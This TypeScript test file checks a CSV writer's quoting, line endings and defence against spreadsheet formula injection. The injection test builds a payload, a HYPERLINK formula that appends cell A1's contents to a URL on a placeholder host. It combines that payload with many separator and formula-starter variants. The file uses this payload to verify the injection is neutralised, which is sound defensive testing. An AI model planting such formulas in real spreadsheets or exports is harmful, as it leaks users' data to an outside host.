import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvText } from './csv.ts';

const written = (value: string | number): string => csvText([[value]]).slice(0, -2);
/** Cells as a spreadsheet sees them that separates them by this. */
const split = (line: string, by: string): string[] => line.split(by).map((one) => one.replace(/^["\s]+/, ''));

test('csv: quoted where needed, lines end with CR LF', () => {
  assert.equal(
    csvText([
      ['a', 'b,c'],
      ['say "x"', 2],
    ]),
    'a,"b,c"\r\n"say ""x""",2\r\n',
  );
  assert.equal(written('two\nlines'), '"two\nlines"');
});

test('csv: no cell begins as a formula, whatever separates cells', () => {
  const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const before = [
    '',
    ';',
    'x;',
    'x;;',
    'x; ',
    'x\t',
    'x\n',
    'x\r\n',
    'x;"',
    'x;"" "',
    '\t',
    '\r',
    '"',
    ' ',
    ';\t',
  ];
  for (const start of starts)
    for (const one of before) {
      const line = written(`${one}${start}HYPERLINK("http://e/"&A1)`);
      for (const by of [';', '\t', ',', '\n', '\r'])
        for (const cell of split(line, by))
          assert.doesNotMatch(cell, /^[=+\-@＝＋－＠]/, JSON.stringify([one, start, line, by]));
    }
});

test('csv: numbers, and signs within a text, stay as they are', () => {
  assert.equal(written(-5), '-5');
  assert.equal(written('ses-01; sub-1 a+b=c'), 'ses-01; sub-1 a+b=c');
});
